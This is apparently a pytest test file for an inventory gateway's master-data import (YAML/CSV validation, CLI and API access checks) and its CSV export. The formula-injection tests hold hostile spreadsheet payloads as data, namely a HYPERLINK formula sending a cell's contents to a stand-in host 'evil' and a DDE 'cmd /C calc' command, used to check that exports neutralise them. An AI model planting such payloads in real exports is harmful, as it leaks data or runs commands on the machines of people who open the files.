"""Master data files (CSV/YAML) through ``crossdock items import`` and the API: validated with
every problem located, nothing saved from a bad file; CSV exports are formula-injection safe."""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlalchemy import create_engine, func, select

from crossdock.gateway.cli import main
from crossdock.gateway.inventory.errors import MasterDataInvalid
from crossdock.gateway.inventory.importer import parse_master_data
from crossdock.gateway.inventory.views import csv_cell
from crossdock.gateway.partners import create_partner
from crossdock.gateway.store import schema as t
from crossdock.gateway.store.migrate import upgrade
from vmihelpers import KEYS, MASTER


def _codes(exc: MasterDataInvalid) -> list[tuple[str, tuple]]:
    return [(i.code, i.loc) for i in exc.issues]


def test_yaml_with_every_problem_reported() -> None:
    bad = """
items:
  - {supplier: globex, code: A, gtin: "012345678906"}
  - {supplier: globex, code: A}
locations:
  - {code: S1, kind: shop, gln: "123"}
policies:
  - {supplier: globex, item: A, location: S1, method: min_max, min_qty: 50, max_qty: 10}
  - {supplier: globex, item: A, location: S1, method: teleport}
"""
    with pytest.raises(MasterDataInvalid) as caught:
        parse_master_data(bad, "yaml")
    assert sorted(_codes(caught.value)) == [
        ("INVALID", ("items", 0, "gtin")), ("INVALID", ("locations", 0, "gln")),
        ("INVALID", ("locations", 0, "kind")), ("INVALID", ("policies", 1, "method"))]
    with pytest.raises(MasterDataInvalid) as caught:
        parse_master_data(bad.replace('"012345678906"', '"012345678905"').replace("shop", "store")
                          .replace('"123"', '"0614141000012"').replace("teleport", "min_max, min_qty: 1, max_qty: 2"),
                          "yaml")
    assert sorted(_codes(caught.value)) == [("DUPLICATE", ("items", 1)), ("DUPLICATE", ("policies", 1)),
                                            ("LEVELS_INVERTED", ("policies", 0, "max_qty"))]


def test_csv_sections_and_syntax() -> None:
    items = parse_master_data(b"\xef\xbb\xbfsupplier,code,gtin,pack_size\r\nglobex,A,012345678905,12\r\n", "csv")
    assert items.items[0].gtin == "00012345678905" and items.counts["items"] == 1
    with pytest.raises(MasterDataInvalid) as caught:
        parse_master_data("foo,bar\n1,2\n", "csv")
    assert _codes(caught.value) == [("CSV_HEADER_UNKNOWN", ("header",))]
    with pytest.raises(MasterDataInvalid) as caught:
        parse_master_data("items: [", "yaml")
    assert caught.value.issues[0].code == "SYNTAX"


def test_cli_import_saves_or_reports(tmp_path: Path, monkeypatch, capsys) -> None:
    url = f"sqlite:///{tmp_path / 'hub.db'}"
    engine = create_engine(url)
    upgrade(engine)
    with engine.begin() as conn:
        for code in ("acme", "globex", "initech"):
            create_partner(conn, code=code, name=code)
    monkeypatch.setenv("CROSSDOCK_DATABASE_URL", url)
    good = tmp_path / "master.yaml"
    good.write_text(MASTER)
    assert main(["items", "import", str(good)]) == 0
    assert "saved 2 programs, 3 locations, 3 items, 4 policies" in capsys.readouterr().out
    assert main(["items", "import", str(good)]) == 0  # again: updates, no duplicates
    bad = tmp_path / "policies.csv"
    bad.write_text("supplier,item,location,method,min_qty,max_qty\nglobex,NOPE,ACME-S042,min_max,1,2\n"
                   "nobody,GLX-100,ACME-S042,min_max,1,2\n")
    assert main(["items", "import", str(bad)]) == 1
    err = capsys.readouterr().err
    assert "policies.1.supplier: PARTNER_UNKNOWN" in err
    with engine.connect() as conn:
        assert conn.execute(select(func.count()).select_from(t.inv_item_locations)).scalar_one() == 4
        assert conn.execute(select(func.count()).select_from(t.inv_items)).scalar_one() == 3
    # then plan them: --processes splits a run on PostgreSQL; SQLite plans in this process
    assert main(["replenish", "--supplier", "globex", "--date", "2026-03-02", "--processes", "2"]) == 0
    assert "planned 3 item-location(s) for 2026-03-02" in capsys.readouterr().out
    assert main(["replenish", "--supplier", "nobody"]) == 1
    with pytest.raises(SystemExit) as usage:
        main(["replenish", "--processes", "0"])
    assert usage.value.code == 2
    monkeypatch.delenv("CROSSDOCK_DATABASE_URL")


def test_api_import_needs_admin_or_host(client) -> None:
    body = "supplier,code,description\nglobex,GLX-900,Sprocket\n"
    denied = client.post("/api/v1/inventory/master-data", content=body,
                         headers={"X-Api-Key": KEYS["globex"], "Content-Type": "text/csv"})
    assert denied.status_code == 403
    saved = client.post("/api/v1/inventory/master-data", content=body,
                        headers={"X-Api-Key": KEYS["host"], "Content-Type": "text/csv"})
    assert saved.status_code == 200 and saved.json() == {"saved": {"programs": 0, "locations": 0, "items": 1,
                                                                   "policies": 0}}
    bad = client.post("/api/v1/inventory/master-data", content='{"items": [{"supplier": "globex"}]}',
                      headers={"X-Api-Key": KEYS["host"], "Content-Type": "application/json"})
    assert bad.status_code == 422 and bad.json()["code"] == "MASTER_DATA_INVALID"
    assert bad.json()["issues"] == [{"code": "INVALID", "msg": "Field required", "loc": ["items", 0, "code"]}]


@pytest.mark.parametrize(("value", "cell"), [
    ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("@SUM(1+1)", "'@SUM(1+1)"), ("-2+3", "'-2+3"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("\0x", "'\0x"), ("Widget", "Widget"), (-5, "-5"), (None, ""),
])
def test_csv_cells_are_never_formulas(value, cell) -> None:
    assert csv_cell(value) == cell


def test_csv_export_quotes_per_rfc4180(client) -> None:
    text = client.get("/api/v1/inventory/export.csv", headers={"X-Api-Key": KEYS["initech"]}).text
    lines = text.split("\r\n")
    assert lines[0].startswith("item,description,location")
    # a description with quotes and commas is quoted, quotes doubled, and escaped as text
    assert lines[1].startswith('INI-300,"\'=HYPERLINK(""http://evil/?"",""x"")",ACME-S042,')
